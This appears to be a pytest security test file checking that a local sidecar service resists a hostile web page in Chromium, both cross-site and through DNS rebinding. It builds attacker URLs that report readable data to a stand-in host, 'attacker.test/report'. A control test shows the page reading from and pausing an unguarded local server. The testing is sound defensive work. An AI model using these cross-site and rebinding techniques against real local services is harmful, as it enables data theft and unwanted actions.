"""A web page in a real browser on the sidecar's own machine: it changes nothing, and reads nothing."""

from typing import Any

import pytest
from aiohttp import web
from browser_kit import Attacker, needs_chromium, rebinding, serving, visit
from process_kit.running import Starter
from process_kit.service import Json, Services, Sidecar, config
from promises import Show

SECRET = {"event": "purchase", "order_id": "SECRET-1", "value": 7, "msclkid": "0badcafe" * 4}


async def _state(sidecar: Sidecar) -> Json:
    """Everything that a page might change."""
    rows = [(row["order_id"], row["state"], row["reason"]) for row in await sidecar.rows()]
    health = await sidecar.get("/healthz")
    checks = {name: check["status"] for name, check in health["checks"].items()}
    return {"rows": rows, "checks": checks, "connection": await sidecar.get("/v1/connection")}


async def _attacked(starter: Starter, services: Services, *, rebound: bool) -> tuple[int, list[Any], bool]:
    """What a page tried, what it could read, and whether anything changed."""
    sidecar = await services.start(config(None))
    assert (await sidecar.post(SECRET)).status == 202
    await sidecar.settled(60)
    before = await _state(sidecar)
    attacker = Attacker()
    async with serving(attacker.app()) as port:
        there = f"http://attacker.test:{port}/report"
        if rebound:
            report = await _visit_rebound(starter, sidecar, attacker, port, there)
        else:
            page = f"http://attacker.test:{port}/?target={sidecar.url}&report={there}"
            report = await visit(starter.folder, page, attacker.reported, "attacker.test 127.0.0.1")
    assert report["globals"] == [], "a script of ours ran in a foreign page"
    return report["tried"], report["readable"], await _state(sidecar) != before


async def _visit_rebound(starter: Starter, sidecar: Sidecar, attacker: Attacker, port: int, there: str) -> Json:
    """The page's own name leads to the sidecar as soon as the page is there."""
    ours = int(sidecar.url.rpartition(":")[2])
    seen: list[str] = []
    page = attacker.page

    async def once(request: web.Request) -> web.Response:
        seen.append(request.path)
        return await page(request)

    attacker.page = once  # type: ignore[method-assign]
    async with serving(attacker.app()) as first, rebinding(first, ours, ours, lambda: bool(seen)):
        origin = f"http://rebound.test:{ours}"
        url = f"{origin}/?target={origin}&report={there}"
        names = ("rebound.test 127.0.0.2", "attacker.test 127.0.0.1")
        return await visit(starter.folder, url, attacker.reported, *names)


@needs_chromium
@pytest.mark.promise("C2")
async def test_page_on_the_internet_changes_and_reads_nothing(
    starter: Starter, services: Services, shown: Show
) -> None:
    tried, readable, changed = await _attacked(starter, services, rebound=False)
    assert not readable
    assert not changed
    shown(f"{tried} requests of a page in Chromium", len(readable) + changed)


@needs_chromium
@pytest.mark.promise("C1")
async def test_page_whose_name_is_rebound_to_the_sidecar_changes_and_reads_nothing(
    starter: Starter, services: Services, shown: Show
) -> None:
    tried, readable, changed = await _attacked(starter, services, rebound=True)
    refused = [text for _, text in readable if "unknown_host" in text]
    let_in = [name for name, text in readable if text not in refused]
    assert not let_in, [pair for pair in readable if pair[1] not in refused][:5]
    assert refused, "the page did not reach the sidecar"
    assert not changed
    shown(f"{tried} requests of a page in Chromium whose own name led to the sidecar", len(let_in) + changed)


@needs_chromium
async def test_same_page_does_harm_without_the_guard(starter: Starter) -> None:
    """What is shown above is the guard's work, not the page's weakness."""
    hits: list[str] = []

    async def take(request: web.Request) -> web.Response:
        hits.append(f"{request.method} {request.path}")
        return web.json_response({"secret": 1}, headers={"Access-Control-Allow-Origin": "*"})

    app, attacker = web.Application(), Attacker()
    app.router.add_route("*", "/{path:.*}", take)
    async with serving(app) as victim, serving(attacker.app()) as port:
        url = f"http://attacker.test:{port}/?target=http://127.0.0.1:{victim}&report=http://attacker.test:{port}/report"
        report = await visit(starter.folder, url, attacker.reported, "attacker.test 127.0.0.1")
    assert hits.count("POST /v1/conversions") >= 8
    assert "POST /v1/accounts/default/pause" in hits
    assert len(report["readable"]) >= 8
